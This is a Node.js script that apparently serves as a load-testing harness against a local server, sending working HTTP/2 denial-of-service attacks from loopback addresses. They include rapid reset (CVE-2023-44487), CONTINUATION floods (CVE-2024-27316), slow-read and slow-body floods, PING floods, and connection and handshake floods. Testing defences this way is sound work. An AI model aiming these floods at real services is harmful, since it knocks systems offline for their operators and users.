// The attackers that no tool of Debian's is: raw sockets and raw HTTP/2 frames. One process for one attack:
// `node attackers.mjs NAME PORT AUTHORITY SECONDS` ends after so many seconds and prints, as JSON, how many connections
// it opened and how many of them the other side closed. Each is bounded, in connections and in how fast it goes.
import { once } from 'node:events';
import net from 'node:net';
import { Duplex } from 'node:stream';
import { setTimeout as sleep } from 'node:timers/promises';
import tls from 'node:tls';

import {
  block, CONTINUATION, END_HEADERS, END_STREAM, frame, HEADERS, PING, PREFACE, reset, SETTINGS, settings,
} from './frames.mjs';

const [name, port, authority, seconds] = process.argv.slice(2);
const until = performance.now() + Number(seconds) * 1000;
const isOver = () => performance.now() >= until;
const counts = { opened: 0, closed: 0, sent: 0 };
const sockets = new Set();

/** The good client is 127.0.0.9, Debian's tools are 127.0.0.1. */
const ADDRESSES = Array.from({ length: 8 }, (_, number) => `127.0.0.${number + 11}`);

function watched(socket) {
  counts.opened += 1;
  sockets.add(socket);
  socket.on('error', () => {});
  socket.once('close', () => {
    sockets.delete(socket);
    if (!isOver()) counts.closed += 1;
  });
  return socket;
}

const tcp = (localAddress) => watched(net.connect({ host: '127.0.0.1', port, localAddress }));

/** A connection that speaks HTTP/2, with what it says first. */
async function http2(localAddress, first) {
  const socket = watched(tls.connect({
    host: '127.0.0.1', port, localAddress, ALPNProtocols: ['h2'], rejectUnauthorized: false,
  }));
  socket.resume();
  const connected = await Promise.race([
    once(socket, 'secureConnect').then(() => true, () => false),
    once(socket, 'close').then(() => false),
  ]);
  if (!connected) return null;
  socket.write(Buffer.concat([PREFACE, first]));
  return socket;
}

/** Opens so many connections a second, by turns from each address, while there are fewer than `most`. */
async function open(rate, most, addresses, one) {
  const begun = performance.now();
  let done = 0;
  while (!isOver()) {
    const due = ((performance.now() - begun) / 1000) * rate;
    for (; done < due; done += 1) {
      if (sockets.size < most) one(addresses[done % addresses.length]);
    }
    await sleep(5);
  }
}

/** Writes what `next` gives until the socket is closed; `null` is a pause. Waits while nobody reads. */
async function write(socket, pause, next) {
  while (!isOver() && !socket.destroyed) {
    const bytes = next();
    if (bytes && !socket.write(bytes)) {
      await Promise.race([once(socket, 'drain').catch(() => {}), once(socket, 'close').catch(() => {}), sleep(1_000)]);
    }
    await sleep(pause);
  }
}

const head = (path, stream, flags, method = 'GET', more = []) =>
  frame(HEADERS, flags, stream, block(method, authority, path, more));

/** A hundred requests on one connection of which none is ever finished. */
const hundred = (method, path, flags, more) =>
  Buffer.concat(Array.from({ length: 100 }, (_, number) => head(path, 2 * number + 1, flags, method, more)));

/** What a TLS client says first. */
function clientHello() {
  return new Promise((resolve) => {
    const wire = new Duplex({ read() {}, write(bytes) { resolve(bytes); } });
    tls.connect({ socket: wire, servername: 'localhost', rejectUnauthorized: false }).on('error', () => {});
  });
}

const attacks = {
  /** 12 connections of one address, 3 a second, each with 100 long answers of which no byte is taken. */
  'h2-slow-read': () => open(3, 12, ADDRESSES.slice(0, 1), async (address) => {
    const socket = await http2(address, settings(0));
    socket?.write(hundred('GET', '/long', END_HEADERS | END_STREAM));
    counts.sent += 100;
  }),
  /** 12 connections of one address, 3 a second, each with 100 bodies of which no byte comes. */
  'h2-slow-body': () => open(3, 12, ADDRESSES.slice(0, 1), async (address) => {
    const socket = await http2(address, settings());
    socket?.write(hundred('POST', '/upload', END_HEADERS));
    counts.sent += 100;
  }),
  /** The same with forms of 1 MiB that a rule would look at. */
  'h2-slow-forms': () => open(3, 12, ADDRESSES.slice(0, 1), async (address) => {
    const socket = await http2(address, settings());
    const form = [['content-type', 'application/x-www-form-urlencoded'], ['content-length', String(1024 * 1024)]];
    socket?.write(hundred('POST', '/form', END_HEADERS, form));
    counts.sent += 100;
  }),
  /** CVE-2023-44487: requests that are reset in the same write; 50 new connections a second. */
  'rapid-reset': () => open(50, 50, ADDRESSES.slice(0, 2), async (address) => {
    const socket = await http2(address, settings());
    if (!socket) return;
    let stream = -1;
    await write(socket, 10, () => {
      counts.sent += 50;
      return Buffer.concat(Array.from({ length: 50 }, () => {
        stream += 2;
        return Buffer.concat([head('/page', stream, END_HEADERS | END_STREAM), reset(stream)]);
      }));
    });
  }),
  /** The same with a moment in between, so that the portal has them; a thousand a second, for the portal is not meant. */
  'late-reset': () => open(5, 5, ADDRESSES.slice(0, 2), async (address) => {
    const socket = await http2(address, settings());
    if (!socket) return;
    let stream = -1;
    await write(socket, 20, () => {
      const before = Array.from({ length: 10 }, (_, number) => stream - 18 + 2 * number).filter((id) => id > 0);
      const next = Array.from({ length: 10 }, () => (stream += 2));
      counts.sent += 10;
      return Buffer.concat([...before.map(reset), ...next.map((id) => head('/page', id, END_HEADERS | END_STREAM))]);
    });
  }),
  /** CVE-2024-27316: a head that never ends, in empty pieces and in pieces of 16 KiB. */
  continuation: () => open(100, 50, ADDRESSES.slice(0, 2), async (address) => {
    const socket = await http2(address, settings());
    if (!socket) return;
    // A literal field with a new name, again and again.
    const field = Buffer.concat([Buffer.from([0, 1, 0x61, 0x7e]), Buffer.alloc(126, 'b')]);
    const large = Buffer.concat(Array.from({ length: 120 }, () => field));
    const payload = address === ADDRESSES[0] ? Buffer.alloc(0) : large;
    socket.write(head('/page', 1, END_STREAM));
    await write(socket, 5, () => {
      counts.sent += 20;
      return Buffer.concat(Array.from({ length: 20 }, () => frame(CONTINUATION, 0, 1, payload)));
    });
  }),
  /** PING and SETTINGS, 20 000 a second on 8 connections, of which half read no answer. */
  pings: () => open(20, 8, ADDRESSES.slice(0, 2), async (address) => {
    const socket = await http2(address, settings());
    if (!socket) return;
    if (address === ADDRESSES[0]) socket.pause();
    // A request first: a connection without one is closed after 10 s.
    socket.write(head('/page', 1, END_HEADERS | END_STREAM));
    const ping = frame(PING, 0, 0, Buffer.alloc(8));
    const both = Buffer.concat(Array.from({ length: 25 }, () => Buffer.concat([ping, frame(SETTINGS, 0, 0)])));
    await write(socket, 20, () => {
      counts.sent += 50;
      return both;
    });
  }),
  /** 1 000 connections a second from 8 addresses, up to 4 000 at a time, on which nothing is said. */
  connections: () => open(1_000, 4_000, ADDRESSES, tcp),
  /** 300 TLS handshakes a second from 4 addresses that stop once the server has answered. */
  handshakes: async () => {
    const hello = await clientHello();
    await open(300, 1_000, ADDRESSES.slice(0, 4), (address) => {
      const socket = tcp(address);
      socket.once('connect', () => socket.write(hello));
    });
  },
};

await attacks[name]();
// The rest goes at once, as when somebody pulls the plug.
console.log(JSON.stringify(counts));
process.exit(0);
